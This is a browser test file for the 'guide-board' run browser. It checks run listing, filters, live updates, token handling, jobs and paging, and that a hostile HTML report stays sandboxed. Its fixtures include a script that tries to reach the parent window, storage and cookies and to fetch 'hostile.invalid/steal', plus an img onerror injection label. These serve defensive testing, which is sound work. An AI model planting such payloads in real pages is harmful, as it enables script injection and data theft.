// The run browser in a real browser: Debian's Chromium, driven by playwright-core, against the
// built bin's `guide-board serve` on a generated runs directory (runs of every status, a legacy
// run, a run whose HTML report is hostile) in a project whose config holds one quick guide.
// Every test leaves a screenshot under test-results/screenshots/.
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { launchChromium } from "../helpers/chromium.ts";
import { assertBuilt, ROOT, startServe, type Served } from "../helpers/bin.ts";
import { sha256, tempDir, writeCurrentRun, writeLegacyRun, writeManyRuns } from "../helpers/runs.ts";

const SHOTS = join(ROOT, "test-results", "screenshots");
const TOKEN = "browser-token-0123456789abcdef";
/** How long a process may take to start, or a short job to finish, on a busy machine. */
const PATIENCE_MS = 20_000;

// ---------------------------------------------------------------------------------------------
// The runs directory

/** A report whose script would leave marks everywhere it can reach, if it ever ran. */
const HOSTILE_HTML = `<!doctype html>
<html><head><meta charset="utf-8"><title>Hostile report</title></head><body>
<h1>Hostile report</h1>
<p>Its script must never run.</p>
<script>
  console.log("HOSTILE script ran");
  try { window.top.HOSTILE = 1; } catch (e) {}
  try { parent.document.body.setAttribute("data-hostile", "1"); } catch (e) {}
  try { opener.HOSTILE = 1; opener.postMessage("hostile", "*"); } catch (e) {}
  try { localStorage.setItem("hostile", "1"); } catch (e) {}
  try { sessionStorage.setItem("hostile", "1"); } catch (e) {}
  try { document.cookie = "hostile=1; path=/"; } catch (e) {}
  try { fetch("/retained-runs?hostile=1"); } catch (e) {}
  try { fetch("http://hostile.invalid/steal"); } catch (e) {}
  try { new Image().src = "/hostile-beacon"; } catch (e) {}
  try { parent.postMessage("hostile", "*"); } catch (e) {}
  document.title = "HOSTILE RAN";
  document.body.setAttribute("data-ran", "1");
</script>
</body></html>
`;
const HOSTILE_MARKS = /hostile(-beacon|=1|\.invalid)/i;
/** Markup in a label: the page must show it as text. */
const HOSTILE_LABEL = `<img src="/hostile-beacon" onerror="window.top.HOSTILE = 2">`;

const BIG = "x".repeat(2048);
const LONE_SURROGATE_ID = "odd\ud800";
const LONE_SURROGATE_PATH = "odd/\udc00.bin";
const RESULT = '{"ok":true}';

/** Run ids, oldest first; each starts a day after the one before. */
const IDS = {
  legacy: "r01-legacy",
  smokePassed: "r02-smoke-passed",
  smokeFailed: "r03-smoke-failed",
  e2eErrored: "r04-e2e-errored",
  e2eCancelled: "r05-e2e-cancelled",
  e2eFailed: "r06-e2e-failed",
  newer: "r07-newer-writer",
  hostile: "r08-hostile-report",
} as const;
const NEWEST_FIRST = Object.values(IDS).reverse();
/** Day `n` of January 2026, 09:00 to 09:01:05. */
const day = (n: number) => ({ startedAt: `2026-01-0${n}T09:00:00Z`, finishedAt: `2026-01-0${n}T09:01:05Z` });

function writeFixtures(runsDir: string): void {
  writeLegacyRun(runsDir, IDS.legacy, {
    status: "passed",
    startedAt: "2025-12-31T09:00:00Z",
    reports: { "reports/summary.html": "<h1>legacy ok</h1>" },
  });
  writeCurrentRun(runsDir, IDS.smokePassed, {
    status: "passed",
    ...day(1),
    labels: { suite: "smoke", branch: "main" },
  });
  writeCurrentRun(runsDir, IDS.smokeFailed, {
    status: "failed",
    exitCode: 1,
    ...day(2),
    labels: { suite: "smoke", branch: "dev" },
  });
  writeCurrentRun(runsDir, IDS.e2eErrored, { status: "errored", exitCode: null, ...day(3), labels: { suite: "e2e" } });
  writeCurrentRun(runsDir, IDS.e2eCancelled, {
    status: "cancelled",
    exitCode: null,
    ...day(4),
    labels: { suite: "e2e" },
  });
  writeCurrentRun(runsDir, IDS.e2eFailed, {
    status: "failed",
    exitCode: 2,
    ...day(5),
    labels: { suite: "e2e", branch: "main" },
  });
  writeCurrentRun(runsDir, IDS.newer, { status: "passed", ...day(6), schemaVersion: 3 });
  writeCurrentRun(runsDir, IDS.hostile, {
    status: "passed",
    ...day(7),
    labels: { suite: "smoke", branch: "main", note: HOSTILE_LABEL },
    reports: [
      { id: "junit", path: "reports/junit.xml", content: "<testsuite/>", mediaType: "application/xml" },
      {
        id: "hostile",
        path: "reports/hostile.html",
        content: HOSTILE_HTML,
        mediaType: "text/html",
        title: "Hostile HTML report",
      },
      // Ids and paths that are not well-formed Unicode have no URL: the page says so and carries on.
      { id: LONE_SURROGATE_ID, path: "reports/odd.txt", content: "odd", mediaType: "text/plain" },
    ],
    artifacts: { "out/result.json": RESULT, "logs/big.txt": BIG, [LONE_SURROGATE_PATH]: "odd" },
  });
}

const GUIDES = {
  quick: {
    command: ["sh", "-c", `echo '<testsuite tests="1"/>' > "$GUIDE_BOARD_REPORTS_DIR/junit.xml"`],
    labels: { suite: "jobs" },
  },
};

// ---------------------------------------------------------------------------------------------
// Servers: the built bin, as users start it

interface Server extends Served {
  origin: string;
}

/** Starts `guide-board serve --port 0 ...args` in `cwd` and waits for its "Open <url>" line. */
async function serve(cwd: string, args: string[] = [], env: Record<string, string> = {}): Promise<Server> {
  const served = await startServe(args, { cwd, env, timeoutMs: PATIENCE_MS });
  return { ...served, origin: new URL(served.url).origin };
}

/** SIGTERM (SIGKILL after 5 s), then waits for the exit. */
async function stop(server: Server | undefined): Promise<void> {
  await server?.stop("SIGTERM");
}

// ---------------------------------------------------------------------------------------------
// The browser: one Chromium, a fresh context per tab; every request any page makes is kept.

let browser: Browser;
let cwd: string;
let runsDir: string;
let plain: Server;
let guarded: Server;

interface Seen {
  url: string;
  frame: "main" | "child" | "none";
}
const seen: Seen[] = [];
const contexts: BrowserContext[] = [];

interface Tab {
  context: BrowserContext;
  page: Page;
  /** Requests of this tab's context (every page and frame in it). */
  requests: Seen[];
  console: string[];
}

async function openTab(server: Server, hash = "#/"): Promise<Tab> {
  const context = await browser.newContext({ viewport: { width: 1200, height: 900 } });
  contexts.push(context);
  const requests: Seen[] = [];
  const messages: string[] = [];
  context.on("request", (request) => {
    let frame: Seen["frame"] = "none";
    try {
      const owner = request.frame();
      frame = owner.parentFrame() === null ? "main" : "child";
    } catch {
      // A popup's first navigation comes before Playwright knows its page: no frame yet.
    }
    const entry = { url: request.url(), frame };
    requests.push(entry);
    seen.push(entry);
  });
  context.on("console", (message) => messages.push(`${message.type()}: ${message.text()}`));
  const page = await context.newPage();
  await page.goto(server.url + hash);
  return { context, page, requests, console: messages };
}

async function shot(page: Page, name: string): Promise<void> {
  await page.screenshot({ path: join(SHOTS, `${name}.png`), fullPage: true });
}

/** Evaluates `expression` in the page (a string: the test project has no DOM types). */
function inPage<T>(page: Page, expression: string): Promise<T> {
  return page.evaluate<T>(expression);
}

/** The text of every cell of every body row of the tables matched by `selector`. */
function cells(page: Page, selector: string): Promise<string[][]> {
  return inPage(
    page,
    `[...document.querySelectorAll(${JSON.stringify(`${selector} tbody tr`)})].map((row) => [...row.cells].map((cell) => cell.textContent))`,
  );
}

const runIds = async (page: Page) => (await cells(page, "#runs")).map((row) => row[0]!);
const hashOf = (page: Page) => new URL(page.url()).hash;

/** Polls the DOM until `read` gives what `expected` matches (playwright-core has no web-first asserts). */
const eventually = <T>(read: () => T, timeout = 5000) => expect.poll(read, { timeout, interval: 50 });

beforeAll(async () => {
  assertBuilt();
  mkdirSync(SHOTS, { recursive: true });
  cwd = tempDir("gb-browser-");
  runsDir = join(cwd, "runs");
  mkdirSync(runsDir);
  writeFixtures(runsDir);
  writeFileSync(join(cwd, "guide-board.config.json"), JSON.stringify({ runsDir: "runs", guides: GUIDES }));
  // Started together; each is kept as soon as it is up, so afterAll closes it even if another fails.
  const started = await Promise.allSettled([
    launchChromium().then((launched) => (browser = launched)),
    serve(cwd).then((server) => (plain = server)),
    serve(cwd, ["--host", "127.0.0.1"], { GUIDE_BOARD_TOKEN: TOKEN }).then((server) => (guarded = server)),
  ]);
  for (const result of started) if (result.status === "rejected") throw result.reason;
}, 30_000);

afterEach(async () => {
  for (const context of contexts.splice(0)) await context.close();
});

afterAll(async () => {
  await browser?.close(); // (undefined when beforeAll failed before launching it)
  await Promise.all([stop(plain), stop(guarded)]);
  // Jobs run detached from the server; one still running (after a failure) names its pid here.
  for (const name of runsDir && existsSync(runsDir) ? readdirSync(runsDir) : []) {
    const writer = join(runsDir, name, ".guide-board-writer.json");
    if (!existsSync(writer)) continue;
    try {
      process.kill((JSON.parse(readFileSync(writer, "utf8")) as { pid: number }).pid, "SIGKILL");
    } catch {
      // Already gone.
    }
  }
});

// ---------------------------------------------------------------------------------------------

describe("the run browser (no token)", () => {
  it("lists runs newest first, with status words, labels and schema markers (legacy as legacy)", async () => {
    const { page, console: messages } = await openTab(plain);
    await eventually(() => runIds(page)).toEqual(NEWEST_FIRST);
    const rows = await cells(page, "#runs");
    expect(rows.map((row) => [row[0], row[1], row[5], row[6]])).toEqual([
      [IDS.hostile, "passed", `suite=smoke, branch=main, note=${HOSTILE_LABEL}`, "v2; no submissionManifest"],
      [IDS.newer, "passed", "–", "v3 (newer writer); no submissionManifest"],
      [IDS.e2eFailed, "failed", "suite=e2e, branch=main", "v2; no submissionManifest"],
      [IDS.e2eCancelled, "cancelled", "suite=e2e", "v2; no submissionManifest"],
      [IDS.e2eErrored, "errored", "suite=e2e", "v2; no submissionManifest"],
      [IDS.smokeFailed, "failed", "suite=smoke, branch=dev", "v2; no submissionManifest"],
      [IDS.smokePassed, "passed", "suite=smoke, branch=main", "v2; no submissionManifest"],
      [IDS.legacy, "passed", "–", "legacy (older writer)"],
    ]);
    expect(rows.map((row) => row[3])).toEqual([...Array(7).fill("1 min 5 s"), "–"]); // a legacy run without finishedAt has no duration
    expect(await page.locator("#runs caption").textContent()).toBe("Retained runs, newest first");
    expect(await page.locator("#runs td.status").first().getAttribute("class")).toBe("status status-passed");
    expect(await page.title()).toBe("Runs · guide-board");
    expect(await page.locator("main img").count()).toBe(0); // the label's markup stayed text
    expect(await inPage(page, "window.HOSTILE")).toBe(undefined);
    expect(messages).toEqual([]); // no errors, no CSP violations, no favicon 404
    await shot(page, "01-list");
  });

  it("filters by status and label through the form, mirrors them in the hash, and opens the latest failed run", async () => {
    const { page } = await openTab(plain);
    await eventually(() => runIds(page)).toEqual(NEWEST_FIRST);

    await page.selectOption("#filter-status", "failed");
    await page.getByRole("button", { name: "Filter" }).click();
    await eventually(() => runIds(page)).toEqual([IDS.e2eFailed, IDS.smokeFailed]);
    expect(hashOf(page)).toBe("#/?status=failed");
    expect(await page.locator("#runs caption").textContent()).toBe("Retained runs, newest first, status failed");

    await page.fill("#filter-label", "suite=smoke");
    await page.getByRole("button", { name: "Filter" }).click();
    await eventually(() => runIds(page)).toEqual([IDS.smokeFailed]);
    expect(hashOf(page)).toBe("#/?status=failed&label=suite%3Dsmoke");

    await page.selectOption("#filter-status", "");
    await page.fill("#filter-label", "branch=main");
    await page.keyboard.press("Enter"); // submitting from the field works as well as the button
    await eventually(() => runIds(page)).toEqual([IDS.hostile, IDS.e2eFailed, IDS.smokePassed]);
    expect(hashOf(page)).toBe("#/?label=branch%3Dmain");
    await shot(page, "02-filters");

    // The hash is the state: a link to it restores the form and the rows.
    await page.goto(`${plain.url}#/?status=cancelled&label=suite%3De2e`);
    await eventually(() => runIds(page)).toEqual([IDS.e2eCancelled]);
    expect(await page.inputValue("#filter-status")).toBe("cancelled");
    expect(await page.inputValue("#filter-label")).toBe("suite=e2e");
    await page.goto(`${plain.url}#/?label=suite%3Dnone`);
    await eventually(() => cells(page, "#runs")).toEqual([["No retained runs match."]]);

    await page.getByRole("link", { name: "Latest failed run" }).click();
    await eventually(() => hashOf(page)).toBe(`#/runs/${IDS.e2eFailed}`);
    await eventually(() => page.locator("main h2").textContent()).toBe(`Run ${IDS.e2eFailed}`);
    expect(await page.locator("dd.status").textContent()).toBe("failed");
    await shot(page, "02-latest-failed");

    await page.getByRole("link", { name: "Latest run", exact: true }).click();
    await eventually(() => hashOf(page)).toBe(`#/runs/${IDS.hostile}`);
  });

  it("shows a run's reports and its artifact manifest with sizes and sha256; a legacy run explains the missing manifest", async () => {
    const { page } = await openTab(plain, `#/runs/${IDS.hostile}`);
    const reports = page.locator("section[aria-labelledby=reports-title] table");
    const artifacts = page.locator("section[aria-labelledby=manifest-title] table");
    await reports.waitFor();
    await artifacts.waitFor();
    expect(await page.locator("main h2").textContent()).toBe(`Run ${IDS.hostile}`);
    expect(await reports.locator("caption").textContent()).toBe(`Reports of ${IDS.hostile}`);
    expect(await cells(page, "section[aria-labelledby=reports-title] table")).toEqual([
      ["junit", "application/xml", "12 B", "ok", "View Open in a new tab"],
      ["Hostile HTML report", "text/html", `${Buffer.byteLength(HOSTILE_HTML)} B`, "ok", "View Open in a new tab"],
      [LONE_SURROGATE_ID, "text/plain", "3 B", "no URL: its id is not valid Unicode", ""],
    ]);
    expect(await artifacts.locator("caption").textContent()).toBe(`Artifacts of ${IDS.hostile}`);
    expect(await cells(page, "section[aria-labelledby=manifest-title] table")).toEqual([
      ["out/result.json", "11 B", sha256(RESULT), "ok"],
      ["logs/big.txt", "2.0 KiB", sha256(BIG), "ok"],
      [LONE_SURROGATE_PATH, "3 B", sha256("odd"), "no URL: its path is not valid Unicode"],
    ]);
    expect(await artifacts.getByRole("link", { name: "out/result.json" }).getAttribute("href")).toBe(
      `retained-runs/${IDS.hostile}/artifacts/out/result.json`,
    );
    await shot(page, "03-run-page");

    await page.goto(`${plain.url}#/runs/${IDS.legacy}`);
    const manifest = page.locator("section[aria-labelledby=manifest-title]");
    await manifest.locator("p.note").waitFor();
    expect(await manifest.locator("p.note").textContent()).toBe(
      "This run was recorded by an older writer that kept no artifact manifest, so its artifacts cannot be listed or checked. Its reports are still available.",
    );
    expect(await manifest.locator("table").count()).toBe(0);
    expect(await page.locator("dt:text-is('Schema') + dd").textContent()).toBe("legacy (older writer)");
    await eventually(() => cells(page, "section[aria-labelledby=reports-title] table")).toEqual([
      ["summary.html", "text/html", "18 B", "ok", "View Open in a new tab"],
    ]);
    await shot(page, "03-legacy-run");
  });

  it("shows a run written while the page is open, without a reload", async () => {
    const { page } = await openTab(plain);
    await eventually(() => runIds(page)).toEqual(NEWEST_FIRST);
    await eventually(() => page.locator("#live").textContent()).toBe("Live"); // the event stream is open
    await inPage(page, "window.__sameDocument = true");

    const startedAt = new Date();
    const finishedAt = new Date(startedAt.getTime() + 3000);
    writeCurrentRun(runsDir, "r09-written-live", {
      status: "failed",
      exitCode: 1,
      startedAt: startedAt.toISOString(),
      finishedAt: finishedAt.toISOString(),
      labels: { suite: "live" },
    });
    await eventually(() => runIds(page)).toEqual(["r09-written-live", ...NEWEST_FIRST]);
    expect((await cells(page, "#runs"))[0]!.slice(0, 2)).toEqual(["r09-written-live", "failed"]);
    expect(await inPage(page, "window.__sameDocument")).toBe(true);
    expect(await page.locator("#live").textContent()).toMatch(/^Updated /);
    await shot(page, "04-live");
  });

  it("shows the hostile HTML report in an empty-sandbox frame where its script never runs; its own URL is CSP-sandboxed", async () => {
    const tab = await openTab(plain, `#/runs/${IDS.hostile}`);
    const { page, context } = tab;
    await page.locator("section[aria-labelledby=manifest-title] table").waitFor();
    await page.getByRole("button", { name: "View hostile" }).waitFor();
    await inPage(
      page,
      `window.__messages = []; addEventListener("message", (event) => window.__messages.push(String(event.data)))`,
    );
    const before = tab.requests.length;

    await page.getByRole("button", { name: "View hostile" }).click();
    const frame = page.locator("#viewer iframe");
    await frame.waitFor();
    expect(await frame.getAttribute("sandbox")).toBe("");
    expect(await frame.getAttribute("title")).toBe("Report hostile");
    // Its content is the frame's srcdoc: no URL of the app's origin holds it (a blob: URL would, and
    // would run the report's script in this origin when opened on its own).
    expect(await frame.getAttribute("src")).toBe(null);
    expect(await frame.getAttribute("srcdoc")).toContain("<h1>Hostile report</h1>");
    const report = page.frameLocator("#viewer iframe");
    await eventually(() => report.locator("h1").textContent()).toBe("Hostile report"); // it did render
    await page.waitForTimeout(500); // time enough for a script to act, had it run
    expect(await report.locator("body").getAttribute("data-ran")).toBe(null);

    const marks = `({ top: window.HOSTILE, body: document.body.getAttribute("data-hostile"), local: localStorage.getItem("hostile"),
      session: sessionStorage.getItem("hostile"), cookie: document.cookie, messages: window.__messages, title: document.title })`;
    const clean = {
      body: null,
      local: null,
      session: null,
      cookie: "",
      messages: [],
      title: `${IDS.hostile} · guide-board`,
    };
    expect(await inPage(page, marks)).toEqual(clean);
    expect(await context.cookies()).toEqual([]);
    // The only console lines are the browser's own notes that it blocked the report's script.
    const blockedIn = (url: string) =>
      `error: Blocked script execution in '${url}' because the document's frame is sandboxed and the 'allow-scripts' permission is not set.`;
    const frameUrl = page
      .frames()
      .find((f) => f !== page.mainFrame())!
      .url();
    expect(frameUrl).toBe("about:srcdoc");
    expect(tab.console).toEqual([blockedIn(frameUrl)]);
    // After the click: the page's own fetch of the report and nothing else (srcdoc loads nothing).
    const during = tab.requests.slice(before);
    expect(during.filter((r) => r.frame === "child").map((r) => r.url)).toEqual([]);
    expect(during.filter((r) => r.frame !== "child").map((r) => r.url)).toEqual([
      `${plain.origin}/retained-runs/${IDS.hostile}/reports/hostile`,
    ]);
    expect(tab.requests.filter((r) => HOSTILE_MARKS.test(r.url))).toEqual([]);
    await shot(page, "05-hostile-view");

    // Opened from the API's own URL (the "Open in a new tab" link), the report is CSP-sandboxed.
    const response = context.waitForEvent(
      "response",
      (r) => r.url().endsWith("/reports/hostile") && r.request().isNavigationRequest(),
    );
    const popup = context.waitForEvent("page");
    await page
      .getByRole("row", { name: /Hostile HTML report/ })
      .getByRole("link", { name: "Open in a new tab" })
      .click();
    const [answer, tabPage] = await Promise.all([response, popup]);
    expect(answer.status()).toBe(200);
    expect(answer.headers()["content-security-policy"]).toBe("sandbox");
    expect(answer.headers()["content-type"]).toBe("text/html");
    expect(answer.headers()["x-content-type-options"]).toBe("nosniff");
    await tabPage.waitForLoadState("load");
    expect(await tabPage.locator("h1").textContent()).toBe("Hostile report");
    expect(await tabPage.title()).toBe("Hostile report");
    expect(await tabPage.locator("body").getAttribute("data-ran")).toBe(null);
    // An opaque origin, no opener: even code run there could not reach the run browser's storage.
    expect(await inPage(tabPage, "origin")).toBe("null");
    expect(await inPage(tabPage, "window.opener")).toBe(null);
    expect(
      await inPage(
        tabPage,
        `(() => { try { localStorage.getItem("x"); return "readable"; } catch (error) { return error.name; } })()`,
      ),
    ).toBe("SecurityError");
    await page.waitForTimeout(300);
    expect(await inPage(page, marks)).toEqual(clean);
    expect(tab.console).toEqual([blockedIn(frameUrl), blockedIn(answer.url())]);
    expect(tab.requests.filter((r) => HOSTILE_MARKS.test(r.url))).toEqual([]);
    await shot(tabPage, "05-hostile-tab");
  });

  it("runs no report script when the report frame's address is opened top-level or in a new tab", async () => {
    const tab = await openTab(plain, `#/runs/${IDS.hostile}`);
    const { page, context } = tab;
    await page.getByRole("button", { name: "View hostile" }).click();
    const report = page.frameLocator("#viewer iframe");
    await eventually(() => report.locator("h1").textContent()).toBe("Hostile report");
    const frame = page.frames().find((f) => f !== page.mainFrame())!;
    const address = frame.url();
    expect(address).toBe("about:srcdoc");
    const opened: Page[] = [];
    // Top-level in this tab (as typing the address would) and as "Open frame in new tab" does (a
    // new page of the same context navigated to the frame's URL). Chromium refuses about:srcdoc as
    // a top-level address; had it loaded anything, no script of the report may have run there.
    for (const how of ["top-level", "new tab"]) {
      const other = how === "top-level" ? page : await context.newPage();
      if (other !== page) opened.push(other);
      const went = await other.goto(address).then(
        () => "loaded",
        (error: Error) => error.message,
      );
      expect(went === "loaded" || /ERR_INVALID_URL|ERR_ABORTED/.test(went)).toBe(true);
      await other.waitForTimeout(300);
      const state = `({ title: document.title, ran: document.body && document.body.getAttribute("data-ran"),
        hostile: document.documentElement.outerHTML.includes("HOSTILE RAN") })`;
      await eventually(() => inPage(other, state).catch(() => "navigating")).toMatchObject({
        ran: null,
        hostile: false,
      });
      expect(((await inPage(other, state)) as { title: string }).title).not.toBe("HOSTILE RAN");
    }
    const app = await context.newPage();
    opened.push(app);
    await app.goto(plain.url);
    expect(await inPage(app, `[localStorage.getItem("hostile"), sessionStorage.getItem("hostile")]`)).toEqual([
      null,
      null,
    ]);
    expect(await context.cookies()).toEqual([]);
    expect(tab.requests.filter((r) => HOSTILE_MARKS.test(r.url))).toEqual([]);
    for (const other of opened) await other.close();
  });

  it("is usable from the keyboard: Tab reaches the filters and the links; tables have captions and th scope=col", async () => {
    const { page } = await openTab(plain);
    await eventually(async () => (await runIds(page)).length).toBeGreaterThan(1);
    const focused = () =>
      inPage<string>(
        page,
        `(() => { const el = document.activeElement; return el.id ? el.tagName + "#" + el.id : el.tagName + " " + el.textContent; })()`,
      );
    expect(await focused()).toBe("MAIN#main"); // a new view moves focus to its content
    const forward: string[] = [];
    for (let i = 0; i < 6; i++) {
      await page.keyboard.press("Tab");
      forward.push(await focused());
    }
    const first = (await runIds(page))[0]!;
    // The test trend chart is two tab stops: its "Runs" select and its newest bar (arrow keys move between bars).
    expect(forward.map((name) => name.replace(/^a .*/, "a (a bar)"))).toEqual([
      "SELECT#filter-status",
      "INPUT#filter-label",
      "BUTTON Filter",
      "SELECT#trend-runs",
      "a (a bar)",
      `A ${first}`,
    ]);
    const outline = await inPage<string>(page, "getComputedStyle(document.activeElement).outlineStyle");
    expect(outline).toBe("solid"); // a visible focus ring
    await shot(page, "06-keyboard");

    await page.locator("#main").focus();
    const backward: string[] = [];
    for (let i = 0; i < 7; i++) {
      await page.keyboard.press("Shift+Tab");
      backward.push(await focused());
    }
    expect(backward).toEqual([
      "A Slowest tests",
      "A Flaky tests",
      "A All runs",
      "A Latest failed run",
      "A Latest run",
      "A guide-board",
      "A Skip to content",
    ]);

    // Every table, on the list and on a run page, has a caption and column headers with scope=col.
    const tables = `[...document.querySelectorAll("table")].map((t) => ({ caption: t.caption ? t.caption.textContent : null,
      scopes: [...new Set([...t.querySelectorAll("th")].map((th) => th.getAttribute("scope")))] }))`;
    expect(await inPage(page, tables)).toEqual([{ caption: "Retained runs, newest first", scopes: ["col"] }]);
    expect(await inPage(page, `document.querySelectorAll("#runs thead th").length`)).toBe(7); // Run, Status, Started, Duration, Tests, Labels, Schema

    // Enter on a run link opens the run page; its tables are labelled too; Back returns to the list.
    await page.locator("#main").focus();
    for (let i = 0; i < 6; i++) await page.keyboard.press("Tab");
    await page.keyboard.press("Enter");
    await eventually(() => hashOf(page)).toBe(`#/runs/${first}`);
    await eventually(() => inPage(page, tables)).toEqual([
      { caption: `Reports of ${first}`, scopes: ["col"] },
      { caption: `Artifacts of ${first}`, scopes: ["col"] },
    ]);
    expect(await focused()).toBe("MAIN#main");
    await page.goBack();
    await eventually(() => runIds(page)).toContain(first);
  });

  it("'Skip to content' on a run page keeps the run page (it does not route to the list)", async () => {
    const { page } = await openTab(plain, `#/runs/${IDS.hostile}`);
    await eventually(() => page.locator("main h2").textContent()).toBe(`Run ${IDS.hostile}`);
    await page.locator("a.skip").focus();
    await page.keyboard.press("Enter");
    await page.waitForTimeout(300);
    await shot(page, "06-skip-link");
    // The skip link moves focus only: "#main" is not a route, so the run page stays.
    expect(await page.locator("main h2").first().textContent()).toBe(`Run ${IDS.hostile}`);
    expect(hashOf(page)).toBe(`#/runs/${IDS.hostile}`);
    expect(await inPage(page, "document.activeElement.id")).toBe("main");
  });
});

describe("the run browser with a token (GUIDE_BOARD_TOKEN, 127.0.0.1)", () => {
  it("asks for the token, keeps it in sessionStorage only, lists runs, and still shows reports in a sandboxed frame", async () => {
    const { page, context } = await openTab(guarded);
    await page.getByRole("heading", { name: "This server needs a token" }).waitFor();
    await page.waitForLoadState("networkidle"); // every refused request has put up the form
    await shot(page, "07-token-form");
    await page.getByLabel("Bearer token (kept for this tab only)").fill(TOKEN);
    await page.getByRole("button", { name: "Continue" }).click();
    await eventually(async () => (await runIds(page)).slice(-NEWEST_FIRST.length)).toEqual(NEWEST_FIRST);
    expect(await inPage(page, `sessionStorage.getItem("guide-board-token")`)).toBe(TOKEN);
    expect(await inPage(page, "localStorage.length")).toBe(0);
    expect(await context.cookies()).toEqual([]);
    expect(page.url()).not.toContain(TOKEN);
    await eventually(() => page.locator("#live").textContent()).toBe("Live");
    await shot(page, "07-token-list");

    await page.getByRole("link", { name: IDS.hostile, exact: true }).click();
    await page.getByRole("button", { name: "View hostile" }).click();
    const frame = page.locator("#viewer iframe");
    await frame.waitFor();
    expect(await frame.getAttribute("sandbox")).toBe("");
    expect(await frame.getAttribute("src")).toBe(null);
    await eventually(() => page.frameLocator("#viewer iframe").locator("h1").textContent()).toBe("Hostile report");
    expect(await inPage(page, `document.querySelectorAll("[src^='blob:'], [href^='blob:']").length`)).toBe(0);
    expect(await page.getByRole("link", { name: "Open in a new tab" }).count()).toBe(0); // it could not send the token
    expect(await inPage(page, `window.HOSTILE === undefined && localStorage.getItem("hostile") === null`)).toBe(true);

    // Artifacts are fetched with the token and saved from a blob.
    const download = page.waitForEvent("download");
    await page.getByRole("link", { name: "out/result.json" }).click();
    const saved = await download;
    expect(saved.suggestedFilename()).toBe("result.json");
    expect(readFileSync((await saved.path())!, "utf8")).toBe(RESULT);
    await shot(page, "07-token-report");

    // Another tab (a new session) is asked again.
    const other = await context.browser()!.newContext();
    contexts.push(other);
    const second = await other.newPage();
    await second.goto(guarded.url);
    await second.getByRole("heading", { name: "This server needs a token" }).waitFor();
  });
});

describe("jobs", () => {
  it("starts the configured guide from its button; the job shows, succeeds and links its run", async () => {
    const { page } = await openTab(plain);
    await eventually(() => page.locator("#jobs-title").textContent()).toBe("Jobs started by this server");
    await eventually(() => page.locator("#live").textContent()).toBe("Live");
    const jobs = "section[aria-labelledby=jobs-title] table";
    expect(await page.locator(jobs).count()).toBe(0);
    await page.getByRole("button", { name: "Start quick" }).click();
    await eventually(async () => (await cells(page, jobs)).map((row) => row[1])).toEqual(["quick"]);
    expect(["queued", "running", "succeeded"]).toContain((await cells(page, jobs))[0]![2]);

    await eventually(async () => (await cells(page, jobs))[0]![2], 15_000).toBe("succeeded");
    const [jobId, guide, state, , exitCode, runId] = (await cells(page, jobs))[0]!;
    expect([guide, state, exitCode]).toEqual(["quick", "succeeded", "0"]);
    expect(jobId).toMatch(/\S/);
    const link = page.locator(jobs).getByRole("link", { name: runId! });
    await eventually(() => link.getAttribute("href")).toBe(`#/runs/${encodeURIComponent(runId!)}`);
    expect((await runIds(page))[0]).toBe(runId);
    await shot(page, "08-jobs");

    await link.click();
    await eventually(() => page.locator("main h2").textContent()).toBe(`Run ${runId}`);
    expect(await page.locator("dd.status").textContent()).toBe("passed");
    expect(await page.locator("dt:text-is('Labels') + dd").textContent()).toBe("suite=jobs, guide=quick");
  });
});

describe("paging", () => {
  it("shows 50 runs, then the rest after 'Load more runs'", async () => {
    // Runs started on 1 January 2026 from 00:00: older than every run but the legacy one.
    const listed = async () =>
      ((await (await fetch(`${plain.url}retained-runs?limit=500`)).json()) as { runs: unknown[] }).runs.length;
    // Earlier tests add runs too (jobs, live updates): count from what the server lists now.
    const before = await listed();
    const many = writeManyRuns(runsDir, 55);
    const total = before + many.length;
    await eventually(() => listed()).toBe(total); // the server's index has them all
    const { page } = await openTab(plain);
    await page.getByRole("button", { name: "Load more runs" }).waitFor();
    const first = await runIds(page);
    expect(first).toHaveLength(50);
    await page.getByRole("button", { name: "Load more runs" }).click();
    await eventually(async () => (await runIds(page)).length).toBe(total);
    const all = await runIds(page);
    expect(all.slice(0, 50)).toEqual(first);
    expect(new Set(all).size).toBe(all.length);
    expect(all.slice(-1 - many.length)).toEqual([...[...many].reverse(), IDS.legacy]);
    expect(await page.getByRole("button", { name: "Load more runs" }).count()).toBe(0);
    await shot(page, "09-load-more");
  });
});

describe("with a token, a refused first GET /events starts no poller", () => {
  it("neither re-renders the token form while one types nor keeps polling once 'Live' (as without a token)", async () => {
    const listed = (tab: Tab) => tab.requests.filter((r) => new URL(r.url).pathname === "/retained-runs").length;
    const control = await openTab(plain);
    const typing = await openTab(guarded);
    const entered = await openTab(guarded);
    await eventually(() => control.page.locator("#live").textContent()).toBe("Live");
    await eventually(async () => (await runIds(control.page)).length).toBeGreaterThan(1);
    for (const { page } of [typing, entered]) {
      await page.getByRole("heading", { name: "This server needs a token" }).waitFor();
      await page.waitForLoadState("networkidle"); // every refused request has put up the form
    }
    // One tab is half-way through typing its token; the other has entered it and is live.
    await typing.page.getByLabel("Bearer token (kept for this tab only)").pressSequentially("browser-tok");
    await entered.page.getByLabel("Bearer token (kept for this tab only)").fill(TOKEN);
    await entered.page.getByRole("button", { name: "Continue" }).click();
    await eventually(() => entered.page.locator("#live").textContent()).toBe("Live");
    await eventually(async () => (await runIds(entered.page)).length).toBeGreaterThan(1);
    await entered.page.waitForTimeout(250);
    const before = [listed(control), listed(entered)];

    await entered.page.waitForTimeout(5600); // one polling period, and a little more
    await shot(typing.page, "10-token-form-after-5s");
    expect(listed(control) - before[0]!).toBe(0); // nothing changed: the page without a token stays quiet
    // Nothing refreshes behind the token form (askToken clears the view's refresh and keeps a form
    // already shown), so what the user is typing stays.
    expect(await typing.page.inputValue("#token")).toBe("browser-tok");
    // Once the stream is open the poller stops: no GET /retained-runs every 5 s though nothing changed.
    expect(listed(entered) - before[1]!).toBe(0);
  });
});

it("no page ever sent a request to another host", () => {
  expect(seen.length).toBeGreaterThan(50);
  const origins = new Set([plain.origin, guarded.origin]);
  const elsewhere = seen.filter(
    ({ url }) => !(url.startsWith("blob:") || url.startsWith("data:") || origins.has(new URL(url).origin)),
  );
  expect(elsewhere).toEqual([]);
});
